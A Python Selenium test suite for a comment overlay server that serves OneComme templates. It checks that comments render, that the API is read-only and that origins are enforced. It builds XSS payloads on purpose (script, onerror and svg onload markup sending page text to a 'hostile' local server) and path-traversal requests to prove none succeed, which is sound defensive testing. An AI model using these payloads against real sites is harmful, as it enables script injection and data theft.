#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""OneComme templates served by the bar (issue 39), in Debian's headless chromium: two templates
written here in OneComme's format (Tests/doors/templates: plain JavaScript in OneSDK's diff mode,
Vue 3 in its all mode), copied into the renderer's templates folder and opened from its OneComme
server, against `commentbar serve` reading a WebSocket relay with the viewer memory on. A comment
shows within a second, a first-time viewer is marked, a deletion removes the row, a pin arrives;
nothing the page can send changes the bar; the Host, the Origin and paths are checked.

Issue 46: templates that start as the real ones do (Tests/doors/templates/ping: Pintocuru's ping
to the other loopback name with a 1 s timeout; flow: kkkaoru's flow-comment, its settings read
from 127.0.0.1's plugin API first) read comments; the presets, opened with an address (or a
stylesheet) that points OneSDK at a hostile server on another loopback port, and given markup in
every string field of a comment, run nothing of it and send nothing anywhere but to their own
server.

Issue 48: a template reading the 参加型 queue (Tests/doors/templates/queue: OneSDK's ORDER
permission, `waitingList`, each OrderItem shown as text), once the queue is opened through the
control API, lists three viewers who join with the join words through the relay, in their order,
within a couple of seconds; shows the first called as playing and the others waiting; drops a
viewer who leaves with the leave word; gets the list in `connected` when opened late; shows a
viewer's marked-up name as text, running none of it; and empties when the queue closes.

    COMMENTBAR_BIN=.build-release/static/commentbar COMMENTBAR_VUE_JS=build/onecomme/vue.min.js \\
        /usr/bin/python3 Tests/doors/test_templates.py
"""
import asyncio
import http.client
import json
import os
import shutil
import sys
import threading
import time
import unittest
from urllib.parse import quote, urlsplit

import websockets
import websockets.legacy.server
from selenium.webdriver.common.by import By

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, ".."))
from control.api_call import api_call  # noqa: E402
from control.browser import chromium, wait_for  # noqa: E402
from control.relay import Relay  # noqa: E402
from doors.served import Bar, wait_until  # noqa: E402
from support import websocket as ws_support  # noqa: E402
from support.processes import free_port  # noqa: E402

ACTIONS = {"pin_newest": 0, "unpin": 0, "open_control": 0, "forget_secrets": 0}
# Every way the control server changes the bar, and more: none may answer here.
CHANGING_REQUESTS = [("POST", path) for path in ("/api/pin", "/api/unpin", "/api/viewer", "/api/speech", "/api/comments",
                                                  "/api/events", "/templates/custom/plainjs/index.html", "/sub")] + \
    [("PUT", "/api/comments"), ("DELETE", "/api/comments"), ("PATCH", "/api/services")] + \
    [("PUT", "/api/orders/alice"), ("DELETE", "/api/orders/alice")]  # OneSDK's completeOrder, cancelOrder
CONTROL_PATHS = ["/api/events", "/api/pin", "/api/unpin", "/api/viewer", "/api/speech", "/api/search?q=x", "/api/token"]
TEMPLATES = ("plainjs", "vue3", "ping", "flow", "queue")
# The only picture a page may load that is not on its own server: an emote (https, a named host;
# .invalid never resolves).
EMOTE = "https://emote.invalid/kappa.png"


def markup(field, leak_to):
    """What a hostile comment puts in `field`: markup that, if it ever runs, marks the page
    (window.__pwned) and sends the page's text to `leak_to`."""
    run = f"window.__pwned='{field}';new Image().src='{leak_to}/leak?'+encodeURIComponent(document.body.innerText)"
    return (f'<b>{field}</b><img src="x" onerror="{run}"><script>{run}</script>'
            f'<svg onload="{run}"></svg><a href="javascript:{run}">{field}-link</a>')


def hostile_comment(id, leak_to):
    """A OneComme comment with markup in every string field and pictures that lead to `leak_to`."""
    mark = lambda field: markup(field, leak_to)  # noqa: E731
    return {
        "id": mark("connection"), "service": mark("service"), "name": mark("serviceName"), "url": mark("url"),
        "color": {"r": "0); background: url(" + leak_to + "/colour.png", "g": 0, "b": 0},
        "data": {
            "id": id, "userId": mark("userId"), "liveId": mark("liveId"), "name": mark("name"),
            "displayName": mark("displayName"), "nickname": mark("nickname"),
            "comment": mark("comment") + f' <img src="{EMOTE}" alt="Kappa" class="emoji">'
                       f' <img src="{leak_to}/emote.png" alt="LocalEmote">',
            "speechText": mark("speechText"), "profileImage": leak_to + "/avatar.png",
            "badges": [{"url": leak_to + "/badge.png", "label": mark("badge")}],
            "timestamp": "2026-12-01T00:00:00.000Z", "isOwner": False, "isModerator": False, "isMember": True,
            "hasGift": True, "isFirstTime": True, "isRepeater": False, "paidText": mark("paidText"),
            "colors": {"headerBackgroundColor": f"url({leak_to}/header.png)", "headerTextColor": "#fff",
                       "bodyBackgroundColor": f"url({leak_to}/body.png)", "bodyTextColor": f"url({leak_to}/text.png)"},
            "giftName": mark("giftName"),
        },
    }


class HostileServer:
    """Another OneComme on 127.0.0.1, another port: where an attacker's link (`?host=`, `?port=`,
    `?protocol=`, `?css=`) would point a template. Every HTTP request gets script-bearing comments
    (with `Access-Control-Allow-Origin: *`), `/evil.css` sets OneSDK's CSS variables to it, `/sub`
    sends the same comments as OneComme's messages; every connection it is offered is logged."""

    def __init__(self):
        self.port = free_port()
        self.origin = f"http://127.0.0.1:{self.port}"
        self.log = []
        self.comments = [hostile_comment(f"hostile-{n}", self.origin) for n in range(2)]
        self.loop = asyncio.new_event_loop()
        self.ready = threading.Event()
        threading.Thread(target=self._run, daemon=True).start()
        if not self.ready.wait(10):
            raise AssertionError("the hostile server did not start")

    def _run(self):
        asyncio.set_event_loop(self.loop)
        log = self.log

        class Logged(websockets.legacy.server.WebSocketServerProtocol):
            def connection_made(self, transport):
                log.append("connection")
                super().connection_made(transport)

        async def answer(path, headers):
            log.append(path)
            if headers.get("Upgrade", "").lower() == "websocket":
                return None
            if path.startswith("/evil.css"):
                css = f":root {{ --one-sdk-host: 127.0.0.1; --one-sdk-port: {self.port}; --one-sdk-protocol: ws; }}"
                return 200, [("Content-Type", "text/css")], css.encode()
            return 200, [("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*")], \
                json.dumps(self.comments).encode()

        async def subscription(socket, _path):
            for message in ({"type": "connected", "data": {"comments": self.comments}},
                            {"type": "comments", "data": {"comments": self.comments}},
                            {"type": "pinned", "data": self.comments[0]}):
                await socket.send(json.dumps(message))
            await socket.wait_closed()

        async def main():
            self.stopped = asyncio.Event()
            async with websockets.serve(subscription, "127.0.0.1", self.port, process_request=answer,
                                        create_protocol=Logged):
                self.ready.set()
                await self.stopped.wait()

        self.loop.run_until_complete(main())

    def close(self):
        self.loop.call_soon_threadsafe(self.stopped.set)


class TemplatesTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.relay = Relay()
        cls.port = free_port()
        cls.control_port = free_port()  # issue 48's test opens the 参加型 queue through the control API
        cls.bar = Bar({"service": "websocket", "stream_id": "relay", "server": f"ws://127.0.0.1:{cls.relay.port}/chat",
                       "remember": True, "onecomme": True, "onecomme_port": cls.port,
                       "control": True, "control_port": cls.control_port})
        templates = os.path.join(cls.bar.data, "comment-bar", "templates")
        for name in TEMPLATES:
            shutil.copytree(os.path.join(HERE, "templates", name), os.path.join(templates, name))
        cls.bar.send({"actions": ACTIONS})
        cls.bar.wait_log(f"OneComme templates: on http://127.0.0.1:{cls.port}/templates/")
        cls.bar.wait_log(f"control page: on port {cls.control_port} ")
        with open(os.path.join(cls.bar.env["XDG_CONFIG_HOME"], "comment-bar", "control-token")) as file:
            cls.token = file.read().strip()
        wait_until(lambda: cls.relay.clients, "the bar to connect to the relay", timeout=30)
        cls.drivers = {}
        for name in ("plainjs", "vue3"):
            driver = chromium()
            driver.get(f"http://127.0.0.1:{cls.port}/templates/custom/{name}/")
            cls.drivers[name] = driver
        cls.visitor = chromium()  # the pages of issue 46's tests, one after another
        cls.hostile = HostileServer()
        cls.pins = 0
        time.sleep(2)  # both pages connected

    @classmethod
    def tearDownClass(cls):
        for driver in cls.drivers.values():
            driver.quit()
        cls.visitor.quit()
        cls.hostile.close()
        cls.bar.stop()
        cls.relay.close()

    def rows(self, driver):
        return {row.get_attribute("data-id"): row for row in driver.find_elements(By.CSS_SELECTOR, "li.comment")}

    def test_1_a_comment_shows_within_a_second_and_a_first_time_viewer_is_marked(self):
        sent = time.monotonic()
        self.relay.comment("t1", "Sakura", "こんばんは <b>初見</b> です")
        for name, driver in self.drivers.items():
            wait_for(lambda: "t1" in self.rows(driver), f"the comment in {name}", timeout=5, poll=0.01)
            elapsed = time.monotonic() - sent
            print(f"\n  {name}: the comment showed {elapsed * 1000:.0f} ms after the relay sent it")
            # The bar hands a comment on at once; the page's own release queue (up to 150 ms) and
            # chromium drawing it take the rest. Under make check's load (two cores, OBS and
            # SwiftPM beside it) the second page, read after the first through WebDriver, took
            # 1.12 s once, and 2.05 s once at a load average of 9 (vue3; 0.6-0.7 s quiet): the
            # margin is that load's, not the product's.
            self.assertLess(elapsed, 3.0, name)
            row = self.rows(driver)["t1"]
            self.assertEqual(row.get_attribute("data-first"), "true", name)
            # The text is text: the relay's markup is shown, never made markup.
            self.assertIn("<b>初見</b>", row.find_element(By.CSS_SELECTOR, ".text").text, name)
            self.assertEqual(row.find_elements(By.CSS_SELECTOR, ".text b"), [], name)
        self.relay.comment("t2", "Sakura", "二回目")
        for name, driver in self.drivers.items():
            wait_for(lambda: "t2" in self.rows(driver), f"the second comment in {name}")
            self.assertEqual(self.rows(driver)["t2"].get_attribute("data-first"), "false", name)

    def test_2_a_deletion_removes_it(self):
        self.relay.comment("d1", "Troll", "消されるコメント")
        for name, driver in self.drivers.items():
            wait_for(lambda: "d1" in self.rows(driver), f"the comment in {name}")
        self.relay.send({"type": "delete", "id": "d1"})
        for name, driver in self.drivers.items():
            wait_for(lambda: "d1" not in self.rows(driver), f"the deletion in {name}")

    def pin_newest(self):
        type(self).pins += 1
        self.bar.send({"actions": {**ACTIONS, "pin_newest": self.pins}})

    def test_3_a_pin_arrives(self):
        self.relay.comment("p1", "Questioner", "何のゲーム？")
        for name, driver in self.drivers.items():
            wait_for(lambda: "p1" in self.rows(driver), f"the comment in {name}")
        self.pin_newest()
        for name, driver in self.drivers.items():
            wait_for(lambda: driver.find_element(By.ID, "pinned").get_attribute("data-id") == "p1", f"the pin in {name}")
            self.assertIn("何のゲーム", driver.find_element(By.ID, "pinned").text)

    def test_4_nothing_from_the_page_changes_the_bar(self):
        driver = self.drivers["plainjs"]
        statuses = driver.execute_async_script("""
            const [requests, gets, done] = arguments;
            const body = JSON.stringify({id: 'p1'});
            const sent = requests.map(([method, path]) =>
              fetch(path, {method, body, headers: {'Content-Type': 'application/json'}}).then((r) => [method, path, r.status],
                (e) => [method, path, String(e)]));
            const read = gets.map((path) => fetch(path).then((r) => ['GET', path, r.status]));
            Promise.all(sent.concat(read)).then(done);
        """, CHANGING_REQUESTS, CONTROL_PATHS)
        for method, path, status in statuses:
            if method == "GET":
                self.assertEqual(status, 404, f"{method} {path}")
            else:
                self.assertIn(status, (405,), f"{method} {path}")
        # The page's own SDK refuses too.
        refused = driver.execute_async_script("""
            const done = arguments[0];
            OneSDK.post('/api/pin', {id: 'p1'}).then(() => done('sent'), (e) => done(String(e)));
        """)
        self.assertIn("read-only", refused)
        time.sleep(1)
        self.assertEqual(self.bar.lines("unpinned"), [])
        self.assertEqual(len(self.bar.lines("pinned the newest comment")), self.pins)
        self.assertEqual(driver.find_element(By.ID, "pinned").get_attribute("data-id"), "p1")

    def raw(self, path, host=None, method="GET"):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        connection.putheader("Host", host or f"127.0.0.1:{self.port}")
        connection.endheaders()
        response = connection.getresponse()
        body = response.read()
        connection.close()
        return response.status, body

    def test_5_host_origin_and_paths_are_checked(self):
        self.assertEqual(self.raw("/api/comments")[0], 200)
        for host in (f"attacker.example:{self.port}", "attacker.example", f"127.0.0.1.nip.io:{self.port}"):
            self.assertEqual(self.raw("/api/comments", host=host)[0], 403, host)
            self.assertEqual(self.raw("/templates/custom/plainjs/", host=host)[0], 403, host)
        secret = os.path.join(self.bar.data, "comment-bar", "secret.txt")
        with open(secret, "w") as file:
            file.write("do not serve")
        os.symlink(secret, os.path.join(self.bar.data, "comment-bar", "templates", "plainjs", "link.txt"))
        for path in ("/templates/custom/../secret.txt", "/templates/custom/%2e%2e/secret.txt",
                     "/templates/custom/plainjs/../../secret.txt", "/templates/custom/plainjs/%2E%2E%2F%2E%2E%2Fsecret.txt",
                     "/templates/custom/plainjs/link.txt", "/templates/preset/../custom/plainjs/index.html"):
            status, body = self.raw(path)
            self.assertIn(status, (400, 403, 404), path)
            self.assertNotIn(b"do not serve", body, path)
        # The WebSocket: another site's page may not open it.
        with self.assertRaises(Exception):
            ws_support.Client(f"ws://127.0.0.1:{self.port}/sub", origin="http://attacker.example")
        client = ws_support.Client(f"ws://127.0.0.1:{self.port}/sub?p=comments", origin=f"http://127.0.0.1:{self.port}")
        self.assertIn('"type":"connected"', client.recv_text())
        client.close()

    def test_6_the_presets_run(self):
        driver = self.drivers["plainjs"]
        for preset in ("bar", "simple"):
            driver.get(f"http://127.0.0.1:{self.port}/templates/preset/{preset}/")
            time.sleep(1)
            self.relay.comment(f"preset-{preset}", "Viewer", f"{preset} のテスト")
            wait_for(lambda: driver.find_elements(By.CSS_SELECTOR, f'[data-id="preset-{preset}"]'), f"a comment in {preset}")


    # Issue 46: the real templates' starts, and the presets against any web page.

    def own_origins(self):
        return {f"http://{name}:{self.port}" for name in ("127.0.0.1", "localhost", "[::1]")}

    def visit(self, url):
        """The visitor opens `url`, its network log and the hostile server's emptied first; the
        page's script errors are kept in window.__errors."""
        self.visitor.get_log("performance")
        self.hostile.log.clear()
        self.visitor.get(url)
        self.visitor.execute_script("window.__errors = window.__errors || [];"
                                    "window.addEventListener('error', (e) => { if (e instanceof ErrorEvent) window.__errors.push(e.message); });")

    def addresses_asked(self):
        """Every address the visitor's page has asked for since `visit` (requests and WebSockets)."""
        asked = []
        for entry in self.visitor.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            params = message.get("params", {})
            if message.get("method") == "Network.requestWillBeSent":
                asked.append(params["request"]["url"])
            elif message.get("method") == "Network.webSocketCreated":
                asked.append(params["url"])
        return asked

    def assert_only_own_server_asked(self, what):
        for address in self.addresses_asked():
            parts = urlsplit(address)
            if parts.scheme == "data" or address == EMOTE:
                continue
            origin = f"http://{parts.netloc}"
            self.assertIn(parts.scheme, ("http", "ws"), f"{what}: asked {address}")
            self.assertIn(origin, self.own_origins(), f"{what}: asked {address}, not its own server")

    def assert_nothing_ran(self, what):
        self.assertIsNone(self.visitor.execute_script("return window.__pwned"), f"{what}: hostile markup ran")
        contacts = [entry[:100] for entry in self.hostile.log]
        self.assertEqual(contacts, [], f"{what}: the hostile server was contacted")

    def test_7_a_template_that_pings_the_other_loopback_name_first_reads_comments(self):
        # Pintocuru's templates ask http://localhost:11180/api/info with a 1 s timeout and never
        # subscribe when it fails; a page served from 127.0.0.1 (or, the other way, from
        # localhost) asks across origins: the server must let its own other names read /api/.
        for page, other in (("127.0.0.1", "localhost"), ("localhost", "127.0.0.1")):
            self.visit(f"http://{page}:{self.port}/templates/custom/ping/")
            wait_for(lambda: self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-ping"),
                     f"the ping from {page}", timeout=5)
            self.assertEqual(self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-ping"), "ok",
                             f"a page on {page} could not read http://{other}:{self.port}/api/info (CORS)")
            time.sleep(0.5)  # connected
            self.relay.comment(f"ping-{page}", "Pinger", f"{page} から")
            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'li[data-id="ping-{page}"]'),
                     f"the comment in the ping template on {page}")

    def test_8_flow_comment_reads_its_settings_answer_at_once_and_then_comments(self):
        # kkkaoru's flow-comment awaits GET http://127.0.0.1:11180/api/plugins/<uid> before it
        # subscribes; from a page on localhost the answer must come at once and be readable.
        self.visit(f"http://localhost:{self.port}/templates/custom/flow/")
        wait_for(lambda: self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-settings"),
                 "the plugin API's answer", timeout=3)
        answer = self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-settings")
        self.assertNotIn("unreadable", answer, "the plugin API's answer could not be read from localhost's page")
        status, _, body = answer.partition(" ")
        self.assertGreaterEqual(int(status), 400, f"an unserved route answers an error: {answer}")
        json.loads(body)
        time.sleep(0.5)  # connected
        self.relay.comment("flow-1", "Flower", "流れるコメント")
        wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, 'li[data-id="flow-1"]'), "the comment in flow")

    def test_9_the_api_is_shared_with_the_servers_own_names_only(self):
        for origin in sorted(self.own_origins()):
            headers = self.head("/api/info", origin)
            self.assertEqual(headers.get("access-control-allow-origin"), origin, origin)
            self.assertIn("origin", headers.get("vary", "").lower(), origin)
        for origin in ("http://attacker.example", f"http://127.0.0.1:{self.hostile.port}", "null",
                       f"https://127.0.0.1:{self.port}", f"http://127.0.0.2:{self.port}"):
            self.assertIsNone(self.head("/api/info", origin).get("access-control-allow-origin"), origin)
        status, body = self.raw("/api/info")
        info = json.loads(body)
        self.assertEqual(status, 200)
        self.assertNotEqual(info.get("licensed"), True, "the server may not claim OneComme's licence")
        for path in ("/templates/preset/bar/", "/templates/preset/simple/index.html",
                     "/templates/preset/__origin/js/onesdk.js", "/templates/custom/__origin/css/common.css"):
            self.assertEqual(self.raw(path)[0], 200, path)
            policy = self.head(path, None).get("content-security-policy", "")
            self.assertIn("frame-ancestors 'none'", policy, path)
            connect = next((part.split()[1:] for part in policy.split(";") if part.split()[:1] == ["connect-src"]), None)
            self.assertIsNotNone(connect, f"{path}: no connect-src in {policy!r}")
            allowed = self.own_origins() | {origin.replace("http://", "ws://") for origin in self.own_origins()}
            for source in connect:
                self.assertIn(source, allowed | {"'self'"}, f"{path}: connect-src {source}")

    def head(self, path, origin):
        """The headers of GET `path` with `Origin: origin` (lower-case names)."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        connection.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
        connection.putheader("Host", f"127.0.0.1:{self.port}")
        if origin:
            connection.putheader("Origin", origin)
        connection.endheaders()
        response = connection.getresponse()
        response.read()
        connection.close()
        return {name.lower(): value for name, value in response.getheaders()}

    def hostile_addresses(self):
        hostile = self.hostile.port
        return [f"?host=127.0.0.1&port={hostile}", f"?host=localhost&port={hostile}&protocol=http&pathname=%2Fapi%2Fcomments",
                f"?protocol=ws&port={hostile}", f"?host=attacker.example&port={hostile}",
                f"?css={quote(self.hostile.origin + '/evil.css')}", f"?style={quote(':root{--one-sdk-port:' + str(hostile) + '}')}",
                f"?style={quote('@import url(' + self.hostile.origin + '/evil.css);')}",
                f"?port={self.port}"]  # its own port: honoured, as the real SDK's ?port= is

    def test_10_presets_pointed_at_a_hostile_server_read_only_their_own(self):
        for preset in ("bar", "simple"):
            for number, query in enumerate(self.hostile_addresses()):
                what = f"{preset}{query}"
                self.visit(f"http://127.0.0.1:{self.port}/templates/preset/{preset}/{query}")
                id = f"own-{preset}-{number}"
                # Connected (its WebSocket), or reading the list again and again (?protocol=http).
                wait_for(lambda: self.visitor.execute_script("return OneSDK.connected || OneSDK.config.protocol === 'http'")
                         or self.hostile.log, f"{what}: the page to connect", timeout=8)
                time.sleep(0.5)
                self.relay.comment(id, "Viewer", "本物のコメント")
                wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="{id}"]') or self.hostile.log,
                         f"{what}: its own server's comment", timeout=8)
                time.sleep(0.3)  # anything the hostile server would get, it got
                self.assert_nothing_ran(what)
                self.assertTrue(self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="{id}"]'),
                                f"{what}: its own server's comment is not shown")
                self.assert_only_own_server_asked(what)
                config = self.visitor.execute_script("return [OneSDK.config.host, OneSDK.config.port]")
                self.assertEqual(config, ["127.0.0.1", self.port], f"{what}: OneSDK.config names another server")

    def test_11_markup_in_every_field_from_the_own_server_is_text(self):
        hostile = self.hostile.origin
        for preset in ("bar", "simple"):
            self.visit(f"http://127.0.0.1:{self.port}/templates/preset/{preset}/")
            wait_for(lambda: self.visitor.execute_script("return OneSDK.connected"), f"{preset} to connect")
            # Through the bar: every field a relay can fill (name, text, a paid message's amount,
            # badges), escaped by the server as OneComme's.
            self.relay.send({"type": "gift", "id": f"paid-{preset}", "user": markup("user", hostile),
                             "gift": markup("paidText", hostile), "count": 1, "text": markup("text", hostile),
                             "highlight": "#1e88e5", "badges": [markup("badge", hostile)]})
            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'[data-id="paid-{preset}"]'),
                     f"the paid message in {preset}")
            time.sleep(0.3)
            row = self.visitor.find_element(By.CSS_SELECTOR, f'[data-id="paid-{preset}"]')
            for shown in ("<b>user</b>", "<b>paidText</b>", "<b>text</b>"):
                self.assertIn(shown, row.get_attribute("textContent"), f"{preset}: {shown} is not shown as text")
            self.assertEqual(row.find_elements(By.CSS_SELECTOR, "b, script, svg, a, img"), [], preset)
            self.assert_nothing_ran(f"{preset}, markup from the relay")
            # Past the server: a comment with raw markup in every field, as if escaping had failed
            # upstream, given to the page's own OneSDK as its WebSocket would.
            comment = hostile_comment(f"raw-{preset}", hostile)
            self.visitor.execute_script("OneSDK._receive({type: 'comments', data: {comments: [arguments[0]]}});"
                                        "OneSDK._receive({type: 'pinned', data: arguments[0]});", comment)
            wait_for(lambda: self.visitor.find_elements(By.CSS_SELECTOR, f'li[data-id="raw-{preset}"]'),
                     f"the raw comment in {preset}")
            time.sleep(0.5)
            self.assert_nothing_ran(f"{preset}, raw markup")
            self.assertEqual(self.visitor.execute_script("return window.__errors"), [], preset)
            row = self.visitor.find_element(By.CSS_SELECTOR, f'li[data-id="raw-{preset}"]')
            self.assertEqual(row.find_elements(By.CSS_SELECTOR, "b, script, svg, a"), [], preset)
            pictures = [image.get_attribute("src") for image in row.find_elements(By.TAG_NAME, "img")]
            self.assertEqual(pictures, [EMOTE], f"{preset}: only the https emote is a picture")
            self.assertIn("LocalEmote", row.get_attribute("textContent"), f"{preset}: a refused emote shows its name")
            self.assertIn("comment", row.get_attribute("textContent"))
            self.assert_only_own_server_asked(f"{preset}, raw markup")

    # Issue 48: the 参加型 queue as OneComme's order list, read by a template.

    def queue_rows(self):
        """What the queue template shows, row by row, read from the page in one go."""
        return self.visitor.execute_script("""
            return Array.from(document.querySelectorAll('li.order')).map((row) => ({
              id: row.dataset.id, state: row.dataset.state, name: row.querySelector('.name').textContent,
              count: row.querySelector('.count').textContent, service: row.querySelector('.service').textContent}));
        """)

    def shown(self):
        return [(row["name"], row["state"]) for row in self.queue_rows()]

    def control(self, method, path, body=None):
        return api_call(self.control_port, self.token, method, path, body)

    def orders(self):
        """GET /api/orders as OneSDK's getOrders asks it (src/OneSDK.ts:492-496)."""
        status, body = self.raw("/api/orders")
        self.assertEqual(status, 200)
        return json.loads(body)

    def test_12_a_template_reading_waitingList_shows_the_queue(self):
        self.visit(f"http://127.0.0.1:{self.port}/templates/custom/queue/")
        wait_for(lambda: self.visitor.execute_script("return OneSDK.connected"), "the queue template to connect")
        wait_for(lambda: self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-lists"),
                 "the list in `connected`", timeout=5)
        self.assertEqual(self.shown(), [], "no queue yet: an empty list")
        status, queue = self.control("POST", "/api/queue/open", {})
        self.assertEqual((status, queue["open"], queue["waiting"]), (200, True, []), queue)
        # Three viewers join, in this order, with both join words; one relay is read in order.
        sent = time.monotonic()
        self.relay.comment("queue-1", "Alice", "!join")
        self.relay.comment("queue-2", "Bob", "!参加")
        self.relay.comment("queue-3", "Carol", "!join")
        joined = [("Alice", "waiting"), ("Bob", "waiting"), ("Carol", "waiting")]
        wait_for(lambda: self.shown() == joined, "the three viewers in the template", timeout=5, poll=0.02)
        elapsed = time.monotonic() - sent
        print(f"\n  queue: three joins showed {elapsed * 1000:.0f} ms after the relay sent the first")
        self.assertLess(elapsed, 3.0, "the joins took more than a couple of seconds to show")
        rows = self.queue_rows()
        self.assertEqual([row["id"] for row in rows], ["alice", "bob", "carol"], "OrderItem.id: the viewer's account")
        self.assertEqual({row["count"] for row in rows}, {"0回"}, "nobody has played yet")
        self.assertEqual(len({row["service"] for row in rows}), 1, rows)
        self.assertTrue(rows[0]["service"], "the platform (serviceName) is shown")
        # The streamer calls the next one: the first plays, the others still wait, in order.
        status, called = self.control("POST", "/api/queue/next", {})
        self.assertEqual((status, [entry["name"] for entry in called["called"]]), (200, ["Alice"]), called)
        playing = [("Alice", "playing"), ("Bob", "waiting"), ("Carol", "waiting")]
        wait_for(lambda: self.shown() == playing, "Alice playing in the template", timeout=3)
        self.assertEqual([row["count"] for row in self.queue_rows()], ["1回", "0回", "0回"])
        # The page shows what GET /api/orders gives.
        self.assertEqual([(order["username"], "playing" if order["playing"] else "waiting") for order in self.orders()],
                         playing)
        # OneSDK's order calls (src/OneSDK.ts 492-506): getOrders reads the same list; cancelOrder
        # and completeOrder are refused in the page, as the server refuses their requests.
        from_sdk = self.visitor.execute_async_script(
            "const done = arguments[arguments.length - 1];"
            "const refused = (call) => call.then(() => 'done', (error) => String(error.message));"
            "Promise.all([OneSDK.getOrders(), refused(OneSDK.cancelOrder('alice')), refused(OneSDK.completeOrder('alice'))])"
            ".then(done, (error) => done(String(error)));")
        self.assertEqual([order["username"] for order in from_sdk[0]], ["Alice", "Bob", "Carol"], from_sdk)
        self.assertEqual(from_sdk[1:], ["CommentBar: this server is read-only"] * 2)
        # A page opened now gets the list in `connected` alone.
        self.visit(f"http://127.0.0.1:{self.port}/templates/custom/queue/")
        wait_for(lambda: self.shown() == playing, "the list in a new page's `connected`", timeout=5)
        self.assertEqual(self.visitor.find_element(By.TAG_NAME, "body").get_attribute("data-lists"), "1")
        # A viewer leaves with the leave word and goes from the page.
        self.relay.comment("queue-4", "Bob", "!leave")
        wait_for(lambda: self.shown() == [("Alice", "playing"), ("Carol", "waiting")], "Bob gone from the template",
                 timeout=3)
        # A viewer whose name is markup joins: the name is text, nothing of it runs.
        hostile = self.hostile.origin
        self.relay.comment("queue-5", markup("name", hostile), "!join")
        wait_for(lambda: len(self.shown()) == 3, "the marked-up viewer in the template", timeout=3)
        time.sleep(0.5)  # anything the markup would run, it ran
        last = self.visitor.find_elements(By.CSS_SELECTOR, "li.order")[-1]
        self.assertEqual(last.get_attribute("data-state"), "waiting")
        self.assertIn("<b>name</b>", last.find_element(By.CSS_SELECTOR, ".name").get_attribute("textContent"))
        self.assertEqual(self.visitor.find_elements(By.CSS_SELECTOR, "#orders :is(b, img, script, svg, a)"), [])
        self.assert_nothing_ran("the queue template, a marked-up name")
        self.assertEqual(self.visitor.execute_script("return window.__errors"), [])
        self.assert_only_own_server_asked("the queue template")
        # Closing the queue empties the page's list.
        self.assertEqual(self.control("POST", "/api/queue/close", {})[0], 200)
        wait_for(lambda: self.shown() == [], "the closed queue's empty list in the template", timeout=3)


if __name__ == "__main__":
    unittest.main(verbosity=2)
